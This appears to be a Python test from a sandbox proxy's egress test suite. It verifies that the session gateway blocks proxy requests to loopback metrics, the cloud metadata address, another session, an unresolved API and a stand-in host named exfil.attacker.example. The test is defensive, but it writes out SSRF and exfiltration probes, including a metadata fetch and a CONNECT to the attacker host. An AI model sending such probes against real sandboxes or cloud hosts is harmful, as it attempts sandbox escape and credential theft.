# what: the session's own gateway as an explicit proxy (CONNECT and absolute URIs on any port): toward proxyd's metrics on loopback, the API, the metadata IP, another session, the attacker
# expect-denied: 127.0.0.1 9464 http blocked_range
# expect-denied: 127.0.0.1 9464 http blocked_range
# expect-denied: 198.18.0.1 8080 http unresolved_destination
# expect-denied: 169.254.169.254 80 http blocked_range
# expect-denied: 198.19.254.1 22 http blocked_range
# expect-denied: exfil.attacker.example 443 http not_allowlisted
# expect-stdout: (?s)gateway 198\.19\..*DONE 6 blocked
# A sandbox that dials its gateway is taken for a proxy-aware client
# (HTTP_PROXY=gateway:port), whatever the port: proxyd's transparent
# listener gets it, and the target named in CONNECT or in the absolute URI
# is judged by the same policy. Loopback (proxyd's own metrics on
# 127.0.0.1:9464), the metadata IP and another session's address (the
# pool) are blocked ranges; the TCP API was never resolved for this
# session.
import socket
import struct

gw = None
with open("/proc/net/route") as f:
    for line in f.read().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            gw = socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
print("gateway", gw)
blocked = 0
for port, req in [
        (3128, b"CONNECT 127.0.0.1:9464 HTTP/1.1\r\nHost: 127.0.0.1:9464\r\n\r\n"),
        (9464, b"GET http://127.0.0.1:9464/metrics HTTP/1.1\r\nHost: 127.0.0.1:9464\r\n\r\n"),
        (8080, b"CONNECT 198.18.0.1:8080 HTTP/1.1\r\nHost: 198.18.0.1:8080\r\n\r\n"),
        (80, b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
        (15001, b"CONNECT 198.19.254.1:22 HTTP/1.1\r\nHost: 198.19.254.1:22\r\n\r\n"),
        (443, b"CONNECT exfil.attacker.example:443 HTTP/1.1\r\nHost: exfil.attacker.example:443\r\n\r\n")]:
    try:
        s = socket.create_connection((gw, port), timeout=10)
        s.sendall(req)
        data = s.recv(4096)
        s.close()
    except OSError as e:
        print("FAIL", port, type(e).__name__, "(no answer from proxyd)")
        continue
    if data.startswith(b"HTTP/1.1 403 "):
        blocked += 1
        print("BLOCKED", req.split(b" ")[1].decode(), "via gateway port", port)
    else:
        print("LEAK", req.split(b" ")[1].decode(), data[:60])
print("DONE", blocked, "blocked")
